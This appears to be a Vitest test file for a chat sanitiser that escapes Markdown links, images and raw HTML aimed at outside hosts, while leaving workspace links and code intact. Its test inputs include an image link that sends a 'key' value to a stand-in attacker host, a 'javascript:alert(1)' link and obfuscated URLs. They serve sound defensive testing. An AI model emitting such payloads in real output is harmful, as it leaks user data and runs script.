import { describe, expect, test } from 'vitest';

import { harmlessLinks, withInsertions } from '../../../server/features/chat/harmless-links.ts';

function check(text: string): string {
  return withInsertions(text, harmlessLinks(text));
}

describe('what leads to other hosts is shown as it is written', () => {
  test.each([
    ['![x](https://evil.example/?q=key)', '![x\\](https://evil.example/?q=key)'],
    ['[read on](https://evil.example)', '[read on\\](https://evil.example)'],
    ['[read on]( <//evil.example> )', '[read on\\]( <//evil.example> )'],
    ['[a](&#104;ttps://evil.example)', '[a\\](&#104;ttps://evil.example)'],
    [
      '[![x](https://a.example/i.png)](https://b.example)',
      '[![x\\](https://a.example/i.png)\\](https://b.example)',
    ],
    ['![x][1]\n\n[1]: https://evil.example', '!\\[x][1]\n\n\\[1]: https://evil.example'],
    ['[1]:\n  https://evil.example', '\\[1]:\n  https://evil.example'],
    ['[a](<img src=x>)', '[a\\](\\<img src=x>)'],
    ['> [1]: https://evil.example', '> \\[1]: https://evil.example'],
    ['a <img src="https://evil.example"> b', 'a \\<img src="https://evil.example"> b'],
    ['[x](javascript:alert(1))', '[x\\](javascript:alert(1))'],
    ['`a` and `![x](https://evil.example)`', '`a` and `![x\\](https://evil.example)`'],
    ['- a\n  ```\n  b\n<img src=x>\n', '- a\n  ```\n  b\n\\<img src=x>\n'],
  ])('%s', (text, expected) => {
    expect(check(text)).toBe(expected);
    expect(check(expected)).toBe(expected);
  });
});

describe('what stays in the workspace, and code, is left alone', () => {
  test.each([
    '[cart](src/cart.ts#L3-L9) and [cart](src/cart.ts:3-9)',
    '![drawing](docs/floors.png)',
    '<https://innerloop.example/docs>',
    'a < b && c > d',
    '```html\n<img src="https://a.example/i.png">\n[a](https://a.example)\n```',
    '```rust\nlet a = vec![1, 2];\n```',
    '`<div>` and `[a](https://a.example)`',
    'escaped already: \\<img> and [a\\](https://a.example)',
  ])('%s', (text) => expect(check(text)).toBe(text));
});
